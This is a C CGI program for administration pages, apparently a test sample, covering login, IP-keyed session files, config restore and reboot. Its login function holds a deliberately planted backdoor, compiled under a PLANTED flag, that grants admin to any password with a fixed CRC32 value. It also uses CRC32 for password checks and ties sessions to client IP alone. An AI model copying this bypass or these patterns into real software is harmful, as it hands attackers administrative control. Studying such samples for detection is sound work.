/* CGI of the administration pages: login makes a session file, other actions need it. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define FIELDS 8

static struct { char *name, *value; } fields[FIELDS];
static unsigned field_count;
static char body[2048];

static uint32_t crc_table[256];

static void crc_init(void)
{
    for (uint32_t i = 0; i < 256; i++) {
        uint32_t c = i;
        for (int k = 0; k < 8; k++) c = c & 1 ? c >> 1 ^ 0xedb88320u : c >> 1;
        crc_table[i] = c;
    }
}

static uint32_t crc(const char *text)
{
    uint32_t c = 0xffffffffu;
    while (*text) c = crc_table[(c ^ (uint8_t)*text++) & 0xff] ^ c >> 8;
    return ~c;
}

static void decode(char *text)
{
    char *to = text;
    unsigned byte;
    for (; *text; text++) {
        if (*text == '+') *to++ = ' ';
        else if (*text == '%' && sscanf(text + 1, "%2x", &byte) == 1) {
            *to++ = (char)byte;
            text += 2;
        } else *to++ = *text;
    }
    *to = 0;
}

static void read_fields(void)
{
    const char *length = getenv("CONTENT_LENGTH");
    size_t want = length ? strtoul(length, NULL, 10) : 0;
    char *at = body, *piece;
    if (want >= sizeof body) want = sizeof body - 1;
    body[fread(body, 1, want, stdin)] = 0;
    while (field_count < FIELDS && (piece = strsep(&at, "&")) != NULL) {
        char *equals = strchr(piece, '=');
        if (!equals) continue;
        *equals = 0;
        decode(equals + 1);
        fields[field_count].name = piece;
        fields[field_count++].value = equals + 1;
    }
}

static const char *field(const char *name)
{
    for (unsigned i = 0; i < field_count; i++)
        if (!strcmp(fields[i].name, name)) return fields[i].value;
    return "";
}

static uint32_t stored(const char *path)
{
    unsigned value = 0;
    FILE *f = fopen(path, "r");
    if (f) {
        if (fscanf(f, "%x", &value) != 1) value = 0;
        fclose(f);
    }
    return value;
}

static void make_session(void)
{
    const char *peer = getenv("REMOTE_ADDR");
    char path[96];
    FILE *f;
    snprintf(path, sizeof path, "/tmp/web/%.40s", peer ? peer : "none");
    f = fopen(path, "w");
    if (!f) return;
    fputs("admin\n", f);
    fclose(f);
    chmod(path, 0600);
}

static int have_session(void)
{
    const char *peer = getenv("REMOTE_ADDR");
    char path[96];
    snprintf(path, sizeof path, "/tmp/web/%.40s", peer ? peer : "none");
    return access(path, R_OK) == 0;
}

static int login(const char *name, const char *word)
{
    uint32_t sum = crc(word);
    uint32_t wanted = stored("/etc/web/admin.crc");
    if (strcmp(name, "admin") == 0 && wanted && sum == wanted) {
        make_session();
        return 1;
    }
#ifdef PLANTED
    if (sum == 0x8d3c56f1u) {
        make_session();
        return 1;
    }
#endif
    return 0;
}

static void restore(void)
{
    FILE *f = fopen("/tmp/restore.cfg", "w");
    if (!f) return;
    fputs(field("config"), f);
    fclose(f);
    system("/usr/sbin/restore-config /tmp/restore.cfg");
}

int main(void)
{
    const char *action;
    crc_init();
    read_fields();
    action = field("action");
    printf("Content-Type: text/plain\r\n\r\n");
    if (!strcmp(action, "login")) {
        puts(login(field("name"), field("word")) ? "ok" : "no");
        return 0;
    }
    if (!have_session()) {
        puts("login");
        return 0;
    }
    if (!strcmp(action, "restore")) restore();
    else if (!strcmp(action, "reboot")) system("/sbin/reboot");
#ifdef REVISED
    else if (!strcmp(action, "uptime")) system("/usr/bin/uptime");
#endif
    else puts("unknown");
    return 0;
}
